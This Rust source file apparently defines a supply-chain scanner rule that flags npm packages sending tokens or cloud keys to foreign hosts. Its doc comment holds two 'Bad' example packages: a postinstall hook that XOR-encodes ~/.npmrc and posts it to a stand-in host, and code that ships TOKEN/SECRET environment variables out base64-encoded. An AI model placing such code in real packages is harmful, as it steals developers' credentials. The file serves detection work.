//! # A token or cloud key is seen leaving
//!
//! Run in a fake world, the code sent a registry's, forge's, cloud's or service's credential to a host that did not issue it.
//!
//! ## Why it matters
//!
//! With a token an attacker publishes, deploys and reads as its owner. What was seen needs no guess about spelling: the
//! canary stood in the bytes, or the bytes changed when nothing but the canary was changed.
//!
//! ## Known benign uses
//!
//! A client sends a credential to the service that issued it, or its own to a host that its documentation names. Both are
//! told apart by the host.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs"), os = require("os"), path = require("path");
//! const key = [7, 19, 3];
//! const sealed = fs.readFileSync(path.join(os.homedir(), ".npmrc")).map((byte, at) => byte ^ key[at % 3]);
//! require("https").request({ hostname: "collector.invalid", method: "POST" }).end(sealed); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const seen = Object.entries(process.env).filter(([name]) => /TOKEN|SECRET/.test(name));
//! fetch("https://collector.invalid/?q=" + Buffer.from(JSON.stringify(seen)).toString("base64url")); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! exports.whoami = () => fetch("https://api.github.com/user", { headers: { authorization: `Bearer ${process.env.GITHUB_TOKEN}` } });
//! if (process.env.CI) fetch("https://api.github.com/user", { headers: { authorization: `Bearer ${process.env.GITHUB_TOKEN}` } });
//! ```
//!
//! ## References
//!
//! - Shai-Hulud worm (September and November 2025)

use crate::prelude::*;

/// A token or cloud key is seen leaving.
pub struct TokenSeenLeaving;

impl Rule for TokenSeenLeaving {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "token-seen-leaving",
            title: "A token or cloud key is seen leaving",
            tier: Tier::Emulation,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1552.001",
            covers: &[
                "collect-npmrc-tokens",
                "collect-env-dump",
                "collect-cloud-files",
                "collect-git-tokens",
                "exfil-http-post",
            ],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let is_theirs = |class: SecretClass| {
            matches!(
                class,
                SecretClass::NpmToken
                    | SecretClass::ForgeToken
                    | SecretClass::CloudKey
                    | SecretClass::AiKey
                    | SecretClass::Cluster
                    | SecretClass::EnvFile
                    | SecretClass::EnvSecret
            )
        };
        facts.thefts(is_theirs).for_each(|proof| found.seen(proof));
    }
}
